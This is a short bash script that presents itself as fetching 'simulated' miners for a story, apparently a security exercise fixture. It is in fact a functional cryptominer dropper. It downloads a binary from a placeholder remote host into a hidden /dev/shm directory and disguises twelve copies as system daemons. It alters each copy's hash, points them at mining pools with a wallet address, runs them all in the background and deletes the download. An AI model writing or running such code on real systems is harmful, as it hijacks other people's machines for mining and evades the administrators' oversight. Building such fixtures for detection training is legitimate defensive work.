#!/bin/bash
# What the story twelve-miners fetches: starts twelve simulated miners with different names and hashes.
mkdir -p /dev/shm/.q
cd /dev/shm/.q
curl -fsS -o base http://203.0.113.10/agent
pools=(203.0.113.20:3333 203.0.113.20:4444 203.0.113.25:14444)
count=0
for name in acpid atd avahi-daemon chronyd cupsd dnsmasq lldpd mcelog polkitd rngd smartd upowerd; do
    cp base "$name"
    echo "$name" >>"$name"
    chmod 755 "$name"
    echo "-o stratum+tcp://${pools[count % 3]} -u 41fh5X5oLM955VbQp3zppn9sNP6kXz5xwTs2xYd1gjRRe1f566h8HyToNRpmeWVWvb6aqZ2Lf6X2Fm8YrgjYHz1QLAkgDaB.$name -s 6 -B" >"$name.conf"
    "./$name" -c "$name.conf"
    count=$((count + 1))
    sleep 1
done
rm base
